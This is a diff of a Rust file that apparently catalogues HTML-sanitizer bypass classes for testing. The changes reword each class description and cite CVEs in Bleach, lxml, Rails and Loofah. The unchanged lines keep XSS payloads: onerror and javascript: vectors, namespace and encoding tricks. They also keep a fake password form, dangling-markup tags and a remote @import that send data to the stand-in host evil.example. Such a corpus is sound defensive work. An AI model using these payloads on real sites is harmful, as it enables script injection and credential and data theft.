@@ -43,8 +43,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "confused namespaces",
-        how: "points where HTML begins in SVG and MathML: `annotation-xml`, `foreignObject`, `desc`, `title`, `font`, end tags \
-              `p` and `br`",
+        how: "integration points of HTML in SVG and MathML: `annotation-xml`, `foreignObject`, `desc`, `title`, `font`, \
+              end tags `p` and `br`",
         samples: &[
             "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
             "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg><script>alert(1)</script></svg></annotation-xml></math>",
@@ -63,8 +63,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "raw text elements",
-        how: "elements whose content is text to one parser and markup to another (Bleach CVE-2020-6802, CVE-2020-6816; lxml \
-              CVE-2020-27783; sanitize-html CVE-2017-16016)",
+        how: "elements whose content is text for one parser and markup for another (Bleach CVE-2020-6802, CVE-2020-6816; \
+              lxml CVE-2020-27783; sanitize-html CVE-2017-16016)",
         samples: &[
             "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
             "<noscript><style></noscript><img src=x onerror=alert(1)>",
@@ -89,8 +89,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "`template`, `select` and `option`",
-        how: "trees that a parser holds elsewhere or drops elements from (Rails CVE-2022-23520, CVE-2022-32209, \
-              CVE-2024-53985 to -53989)",
+        how: "content that a parser keeps in another tree, and elements that it drops (Rails CVE-2022-23520, \
+              CVE-2022-32209, CVE-2024-53985 to -53989)",
         samples: &[
             "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
             "<select><style></select><script>alert(1)</script></style></select>",
@@ -110,8 +110,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "tables and misnesting",
-        how: "foster parenting, the adoption agency, nested forms, anchors and headings that come out in another place when \
-              printed and parsed again",
+        how: "foster parenting, the adoption agency, nested forms, anchors and headings that come out in another place \
+              when serialized and parsed again",
         samples: &[
             "<table><img src=x onerror=alert(1)><tr><td>x</table>",
             "<table><style><td></style><img src=x onerror=alert(1)></table>",
@@ -129,7 +129,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "comments and declarations",
-        how: "ends of comments that parsers see in different places, bogus comments, instructions, CDATA (Bleach \
+        how: "comment ends that parsers see in different places, bogus comments, processing instructions, CDATA (Bleach \
               CVE-2021-23980)",
         samples: &[
             "<!--><img src=x onerror=alert(1)>-->",
@@ -190,7 +190,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "handlers",
-        how: "events that fire by themselves or by a click, on elements that are allowed and on those that are not",
+        how: "events that fire by themselves or on a click, on allowed and on forbidden elements",
         samples: &[
             "<img src=x:x onerror=alert(1)>",
             "<body onload=alert(1)><details ontoggle=alert(1) open>d</details>",
@@ -214,8 +214,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "entities in addresses",
-        how: "`javascript:` with references, white space and control characters in it, with and without semicolons (lxml \
-              CVE-2014-3146, CVE-2018-19787)",
+        how: "`javascript:` with character references, white space and control characters in it, with and without \
+              semicolons (lxml CVE-2014-3146, CVE-2018-19787)",
         samples: &[
             "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
             "<a href=\"java&#x0A;script:alert(1)\">x</a>",
@@ -245,8 +245,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "schemes",
-        how: "what runs, reads or writes beside `http` and `https`, wherever an address may stand (lxml CVE-2021-43818; Rails \
-              CVE-2022-23518; Loofah CVE-2022-23515)",
+        how: "schemes other than `http` and `https` that run, read or write, in every attribute that takes a URL (lxml \
+              CVE-2021-43818; Rails CVE-2022-23518; Loofah CVE-2022-23515)",
         samples: &[
             "<a href=\"vbscript:alert(1)\">x</a>",
             "<a href=\"livescript:alert(1)\">x</a>",
@@ -278,7 +278,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "addresses without a scheme",
-        how: "two slashes, backslashes, line ends and tabs inside, a base that changes what they mean",
+        how: "two slashes, backslashes, line ends and tabs inside, a base that changes their meaning",
         samples: &[
             "<a href=\"//evil.example/x\">x</a>",
             "<a href=\"\\\\evil.example/x\">x</a>",
@@ -299,7 +299,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "`srcset`",
-        how: "candidates that are cut in different places: commas in addresses, brackets, descriptors, white space",
+        how: "candidates that parsers split in different places: commas in URLs, brackets, descriptors, white space",
         samples: &[
             "<img srcset=\"javascript:alert(1) 1x, data:image/svg+xml,x 2x\">",
             "<img srcset=\"/a.jpg,javascript:alert(1) 2x\">",
@@ -317,7 +317,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "styles",
-        how: "`expression`, `url`, `@import`, bindings, and what lies over the reader's own buttons",
+        how: "`expression`, `url`, `@import`, bindings, overlays on the reader's own buttons",
         samples: &[
             "<p style=\"background:url(javascript:alert(1))\">x</p><style>@import '//evil.example/x.css'</style>",
             "<p style=\"width:expression(alert(1))\">x</p>",
@@ -337,7 +337,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "forms",
-        how: "what sends what a reader types elsewhere, `formaction` (lxml CVE-2021-28957), submit by script",
+        how: "forms that send input elsewhere, `formaction` (lxml CVE-2021-28957), submission by script",
         samples: &[
             "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
             "<form><button formaction=javascript:alert(1)>x</button></form>",
@@ -353,7 +353,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "documents in documents",
-        how: "frames, `srcdoc`, objects, plug-ins, imports, refreshes, policies",
+        how: "frames, `srcdoc`, objects, plug-ins, imports, refreshes, content security policies",
         samples: &[
             "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
             "<iframe src=\"https://a.example/\" srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
@@ -415,8 +415,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "clobbering and custom elements",
-        how: "`id` and `name` that stand for a script's variables; elements and attributes that a page's own scripts give a \
-              meaning to",
+        how: "`id` and `name` that shadow variables of a script; elements and attributes that have a meaning to a page's \
+              own scripts",
         samples: &[
             "<form id=document><input name=cookie></form>",
             "<a id=config><a id=config name=url href=javascript:alert(1)>x</a>",
@@ -433,7 +433,7 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "open quotes and open tags",
-        how: "what would swallow the page that follows the entry and send it away, or close what the page had opened",
+        how: "markup that swallows the rest of the page and sends it elsewhere, or closes elements that the page opened",
         samples: &[
             "<img src='//evil.example/?",
             "<img src=\"//evil.example/?\n<p>secret</p>",
@@ -472,7 +472,8 @@ const CLASSES: &[Class] = &[
     },
     Class {
         name: "characters",
-        how: "what is markup in another encoding: UTF-7, escapes of ISO-2022-JP, overlong forms, half widths, marks, surrogates",
+        how: "text that is markup in another encoding: UTF-7, ISO-2022-JP escapes, overlong and full-width forms, byte \
+              order marks, surrogates",
         samples: &[
             "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
             "\u{1b}(J<img src=/a.jpg alt=\"\u{1b}$B\">\" onerror=alert(1) \u{1b}(B>",
